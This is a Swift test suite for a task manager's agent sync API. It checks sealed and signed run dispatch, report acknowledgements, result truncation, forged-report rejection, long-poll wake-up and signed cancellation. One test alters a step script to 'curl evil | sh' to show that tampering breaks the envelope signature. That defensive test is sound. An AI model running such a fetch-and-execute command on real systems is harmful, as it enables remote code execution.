import Crypto
import Foundation
import HTTPTypes
import HummingbirdTesting
import KlevrAPI
import KlevrCore
import KlevrManager
import Testing

/// The agent exchange, in-process: dispatch, reports, acknowledgements, cancel, and what is refused.
@Suite struct SyncExchangeTests {
    static func sync(_ client: some TestClientProtocol, _ credential: String, _ request: SyncRequest) async throws -> SyncResponse {
        try await client.decode(SyncResponse.self, .post, "/api/v1/agent/sync", token: credential, body: request)
    }

    @Test func aRunTravelsFromTaskToResult() async throws {
        let harness = try await TestManager.make()
        try await harness.test { client in
            let admin = try await client.token()
            let key = try await client.zoneWithKey("zone-a", admin: admin)
            let keyed = try await client.enrolled(zone: "zone-a", key: key.key)
            let agent = keyed.answer
            let other = try await client.enroll(zone: "zone-a", key: key.key)
            let api = try client.api(token: admin)
            let task = try await api.createTask(
                body: .json(
                    .init(
                        zone: "zone-a", target: .oneAgent(agent.agentId), steps: [.init(script: "echo $KLEVR_PARAM_WHO")],
                        params: .init(additionalProperties: ["WHO": "world"]), timeoutSeconds: 30))
            ).created.body.json
            #expect(task.runs.count == 1)
            let runID = try #require(task.runs.first?.id)

            let first = try await Self.sync(client, agent.credential, SyncRequest(wait: true, reports: []))
            let envelope = try #require(first.runs.first)
            #expect(envelope.runId == runID)
            // Parameters travel sealed to the agent's key: nothing in clear on the wire.
            #expect(envelope.params.additionalProperties.isEmpty)
            #expect(envelope.sealedParams != nil)
            #expect(try envelope.openingParams(with: keyed.sealKey).params == ["WHO": "world"])
            #expect(throws: (any Error).self) { try envelope.openingParams(with: Curve25519.KeyAgreement.PrivateKey()) }
            #expect(envelope.steps.first?.script == "echo $KLEVR_PARAM_WHO")
            // Signed by the manager, for this agent only; any change breaks the signature.
            let managerKey = try Curve25519.Signing.PublicKey(rawRepresentation: try #require(Data(base64Encoded: agent.managerPublicKey)))
            try envelope.verify(managerKey: managerKey, agentID: agent.agentId, now: Clock.nowMillis())
            #expect(throws: RunEnvelope.Refusal.wrongAgent(agent.agentId)) {
                try envelope.verify(managerKey: managerKey, agentID: other.agentId, now: Clock.nowMillis())
            }
            var altered = envelope
            altered.steps[0].script = "curl evil | sh"
            #expect(throws: RunEnvelope.Refusal.badSignature) {
                try altered.verify(managerKey: managerKey, agentID: agent.agentId, now: Clock.nowMillis())
            }
            #expect(throws: RunEnvelope.Refusal.expired(envelope.expiresAt)) {
                try envelope.verify(managerKey: managerKey, agentID: agent.agentId, now: envelope.expiresAt + 1)
            }
            #expect(try await Self.sync(client, other.credential, SyncRequest(wait: false, reports: [])).runs.isEmpty)

            let report = AgentReport(
                agentId: agent.agentId, started: [RunStarted(runId: runID, at: 1)],
                logs: [LogChunk(runId: runID, seq: 1, stream: .stdout, data: "world\n", at: 2)],
                results: [RunResult(runId: runID, outcome: .succeeded, exitCode: 0, reason: nil, result: "ok" + String(repeating: "\u{FFFD}", count: 30_000), finishedAt: 3)])
            for _ in 0..<2 {  // re-sent after a lost answer: same acknowledgement, nothing doubled
                let answer = try await Self.sync(client, agent.credential, SyncRequest(wait: false, reports: [report]))
                #expect(answer.acks.started == [runID])
                #expect(answer.acks.logs == [runID: 1])
                #expect(answer.acks.results == [runID])
                #expect(answer.acks.rejected.additionalProperties.isEmpty)
            }
            let run = try await api.getRun(path: .init(id: runID)).ok.body.json
            #expect(run.status == .succeeded)
            // A result beyond 64 KiB (say, binary output decoded) is cut, not a refusal of the whole report.
            #expect(run.result?.hasPrefix("ok\u{FFFD}") == true)
            #expect((run.result?.utf8.count ?? 0) <= 64 * 1024)
            #expect(run.result?.hasSuffix("[cut by the manager: too long]") == true)
            let logs = try await api.runLogs(path: .init(id: runID)).ok.body.json
            #expect(logs.items.map(\.data) == ["world\n"])
            // JSON or a stream by the same Accept rule as the event log: a stream only when it is ranked
            // above JSON (the run has ended, so the stream ends with its `end` event).
            for (accept, streamed) in [
                ("application/json, text/event-stream", false), ("text/event-stream", true),
                ("application/json;q=0.5, text/event-stream", true), ("text/event-stream;q=0.5, application/json", false),
            ] {
                let answer = try await client.call(.get, "/api/v1/runs/\(runID)/logs", token: admin, headers: [.accept: accept])
                #expect(answer.status == .ok, "\(accept): \(answer.body)")
                #expect(answer.headers[.contentType]?.hasPrefix(streamed ? "text/event-stream" : "application/json") == true, "\(accept)")
                #expect(answer.body.contains("event: end") == streamed, "\(accept): \(answer.body)")
            }

            // Another agent cannot report about this run, nor report in this agent's name.
            let forged = AgentReport(
                agentId: other.agentId, started: [], logs: [], results: [RunResult(runId: runID, outcome: .failed, exitCode: 1, reason: "x", result: nil, finishedAt: 4)])
            let refused = try await Self.sync(client, other.credential, SyncRequest(wait: false, reports: [forged]))
            #expect(refused.acks.rejected[runID] != nil)
            let impersonation = try await client.call(
                .post, "/api/v1/agent/sync", token: other.credential,
                json: String(decoding: try JSONEncoder().encode(SyncRequest(wait: false, reports: [report])), as: UTF8.self))
            #expect(impersonation.status == .forbidden)
            #expect(try await api.getRun(path: .init(id: runID)).ok.body.json.status == .succeeded)
        }
    }

    @Test func longPollWakesForNewWorkAndCancels() async throws {
        // A long hold (two minutes), so that an answer within one proves the wake-up even on a loaded
        // machine, where a 20 s hold was once outlasted by the test's own steps.
        let harness = try await TestManager.make(longPollSeconds: 120)
        try await harness.test { client in
            let admin = try await client.token()
            let key = try await client.zoneWithKey("zone-a", admin: admin)
            let agent = try await client.enroll(zone: "zone-a", key: key.key)
            let started = ContinuousClock.now
            async let poll = Self.sync(client, agent.credential, SyncRequest(wait: true, reports: []))
            // The task is created while the poll is held; the poll must answer with it, long before the hold ends.
            try await Task.sleep(for: .milliseconds(200))
            let api = try client.api(token: admin)
            let task = try await api.createTask(
                body: .json(.init(zone: "zone-a", target: .anyAgent, steps: [.init(script: "sleep 100")]))
            ).created.body.json
            let answer = try await poll
            #expect(answer.runs.map(\.runId) == task.runs.map(\.id))
            #expect(ContinuousClock.now - started < .seconds(60))

            let runID = try #require(task.runs.first?.id)
            _ = try await Self.sync(
                client, agent.credential, SyncRequest(wait: false, reports: [AgentReport(agentId: agent.agentId, started: [RunStarted(runId: runID, at: 1)], logs: [], results: [])]))
            async let cancelPoll = Self.sync(client, agent.credential, SyncRequest(wait: true, reports: []))
            try await Task.sleep(for: .milliseconds(200))
            let canceled = try await api.cancelRun(path: .init(id: runID)).ok.body.json
            #expect(canceled.cancelRequested)
            let orders = try await cancelPoll.cancels
            #expect(orders.map(\.runId) == [runID])
            #expect(orders.map(\.agentId) == [agent.agentId])
            // Signed by the manager: an agent acts on no cancel but the manager's.
            let managerKey = try #require(Keys.signing(agent.managerPublicKey))
            #expect(orders.allSatisfy { $0.verifies(with: managerKey) })
            var forged = try #require(orders.first)
            forged.runId = Secrets.newID()
            #expect(!forged.verifies(with: managerKey))
        }
    }

    @Test func anyNeedsAnOnlineAgentAndAllTakesEveryAgent() async throws {
        let harness = try await TestManager.make()
        try await harness.test { client in
            let admin = try await client.token()
            _ = try await client.zoneWithKey("empty", admin: admin)
            let noAgent = try await client.call(
                .post, "/api/v1/tasks", token: admin, json: #"{"zone":"empty","target":{"kind":"any"},"steps":[{"script":"true"}]}"#)
            #expect(noAgent.status == .conflict)
            let key = try await client.zoneWithKey("zone-a", admin: admin)
            for _ in 0..<3 { _ = try await client.enroll(zone: "zone-a", key: key.key) }
            let task = try await client.api(token: admin).createTask(
                body: .json(.init(zone: "zone-a", target: .allAgents, steps: [.init(script: "true")]))
            ).created.body.json
            #expect(task.runs.count == 3)
            #expect(Set(task.runs.map(\.agentId)).count == 3)
            let zone = try await client.call(.delete, "/api/v1/zones/zone-a", token: admin)
            #expect(zone.status == .conflict)
        }
    }
}
